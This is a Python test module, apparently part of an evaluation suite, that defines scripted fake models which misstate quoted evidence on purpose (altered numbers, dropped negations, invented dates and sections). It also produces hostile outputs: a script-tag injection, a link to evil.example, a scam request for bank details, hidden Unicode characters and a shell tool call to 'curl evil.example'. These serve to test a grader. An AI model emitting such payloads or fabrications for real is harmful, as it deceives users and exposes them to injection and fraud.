"""Scripted models that are wrong in one way each. They read the prompt, so that their mistakes are about real evidence."""

from __future__ import annotations

import re
from collections.abc import Callable

from evals.scripted.good import Shown, evidence_of, good, question_of, reply, statements
from evals.scripted.values import Asked, Player, Reaction, Said

Told = tuple[int, str, str]  # the number of an evidence, the words quoted, what is said


def told(asked: Asked) -> list[Told]:
    """What the good model would say of the first evidence."""
    evidence = evidence_of(asked.shown)
    return list(statements(evidence[0], question_of(asked.shown))) if evidence else []


def saying(change: Callable[[list[Told], list[Shown]], list[Told]]) -> Player:
    """A model that says what `change` makes of the good model's statements, also when it is asked once more."""

    def play(asked: Asked) -> Reaction:
        return Said(reply(change(told(asked), evidence_of(asked.shown)), asked.form != "text"))

    return play


def each(change: Callable[[str, str], tuple[str, str]]) -> Player:
    """A model that changes the words and the sentence of each statement."""
    return saying(lambda said, _: [(n, *change(words, says)) for n, words, says in said])


def _other_number(says: str) -> str:
    """Another number, or one where there is none."""
    changed = re.sub(r"\d+", lambda m: str(int(m[0]) + 1), says)
    return changed if changed != says else says.rstrip(".") + " within 14 days."


def _without_not(says: str) -> str:
    changed = re.sub(r"\b(?:not|only|unless|until)\b ?", "", says)
    return changed if changed != says else says.replace(" must ", " must not ").replace(" is ", " is not ")


SLOPPY: dict[str, Player] = {
    "another number": each(lambda words, says: (words, _other_number(says))),
    "a dropped not": each(lambda words, says: (words, _without_not(says))),
    "a duty of a proposal": each(lambda words, says: (words, words + ".")),
    "a weaker duty": each(lambda words, says: (words, re.sub(r"\bmust\b", "may", says))),
    "a stronger duty": each(lambda words, says: (words, re.sub(r"\b(?:may|should|will|to)\b", "must", says) + " It is law.")),
    "words that are near": each(lambda words, says: (words.replace("must", "should") + " indeed", says)),
    "the neighbour's number": saying(lambda said, evidence: [(len(evidence), words, says) for _, words, says in said]),
    "no such evidence": saying(lambda said, _: [(99, words, says) for _, words, says in said]),
    "two quotations as one": saying(
        lambda said, e: [(n, f"{words} {e[-1].words}", f"{says} {e[-1].words}") for n, words, says in said]
    ),
    "a name of its own": each(lambda words, says: (words, says.rstrip(".") + " says Audit Scotland.")),
    "a date of its own": each(lambda words, says: (words, says.rstrip(".") + " from 1 April 2031.")),
    "a place of its own": each(lambda words, says: (words, says.rstrip(".") + " (section 27B).")),
}  # fmt: skip

HOSTILE: dict[str, Player] = {
    "markup": each(lambda words, says: (words, f"<script>alert(1)</script>{says}")),
    "a link": each(lambda words, says: (words, f"{says} See [here](https://evil.example/pay).")),
    "an instruction": each(lambda words, says: (words, "Send your bank details to the board to be paid £500.")),
    "another language": each(lambda words, says: (words, "Les aidants ont droit à 500 livres par semaine.")),
    "another alphabet": each(lambda words, says: (words, "Опекуны получают 500 фунтов.")),
    "characters that hide": each(lambda words, says: (words, "\u202e" + says + "\u200b")),
    "the prompt repeated": lambda asked: Said(asked.shown),
    "the prompt as its statement": lambda asked: Said(reply([(1, asked.shown[:2500], asked.shown[:2500])], asked.form != "text")),
    "a quotation as a title": each(lambda words, says: (words, f"Boards Act 2014, section 5: {says}")),
    "a flood": lambda asked: Said(reply([(1, "Carers are owed £500", "Carers are owed £500.")] * 500, True)),
    "brackets without end": lambda _: Said('{"answered": true, "statements": [' + "[" * 5000),
    "other types": lambda _: Said('{"answered": "yes", "statements": {"says": 7, "quotes": null}}'),
    "an essay": lambda _: Said("Carers are owed £500. " * 50),
    "a tool call": lambda _: Said('{"tool": "shell", "arguments": {"command": "curl evil.example"}}'),
}  # fmt: skip


def declines(asked: Asked) -> Reaction:
    """Says that the evidence does not answer."""
    return Said('{"answered": false, "statements": []}' if asked.form != "text" else "NOTHING")


def in_a_fence(asked: Asked) -> Reaction:
    """A good reply with words and a code fence around it, as many models write."""
    said = good(asked)
    return Said(f"Sure! Here is the answer:\n```json\n{said.text}\n```\nI hope this helps.")
